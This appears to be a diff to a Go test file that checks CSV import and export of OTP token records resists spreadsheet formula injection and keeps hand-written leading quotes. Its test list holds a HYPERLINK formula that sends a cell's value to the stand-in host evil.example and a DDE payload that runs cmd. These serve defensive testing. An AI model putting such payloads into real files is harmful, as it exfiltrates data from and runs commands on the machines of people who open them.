@@ -14,7 +14,7 @@ import (
 // and ones that start with the quote used to neutralise them.
 var hostileTexts = []string{
 	`=HYPERLINK("http://evil.example/?"&A1,"click")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
-	"'quoted", "''twice", "'=already", "=", "'", "plain",
+	"'quoted", "''twice", "'=already", "=", "'", "plain", "'ABC", "''x", "=1+1", "'=x",
 }
 
 func hostileTokens() []Token {
@@ -61,4 +61,19 @@ func TestCSVRoundTripsHostileText(t *testing.T) {
 		t.Fatal(err)
 	}
 	sameTokens(t, back, toks)
+}
+
+// A hand-written cell that starts with a quote the writer did not add
+// keeps it: only a quote before a formula character or another quote is
+// the writer's.
+func TestCSVHandWrittenQuoteKept(t *testing.T) {
+	s := otpcore.EncodeBase32([]byte("12345678901234567890"))
+	text := "serial,secret,type,algorithm,digits,user\n'ABC," + s + ",TOTP,SHA1,6,'=x\n''," + s + ",TOTP,SHA1,6,'\n"
+	got, err := ParseBytes([]byte(text), Options{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(got) != 2 || got[0].Serial != "'ABC" || got[0].User != "=x" || got[1].Serial != "'" || got[1].User != "'" {
+		t.Fatalf("got %+v", got)
+	}
 }
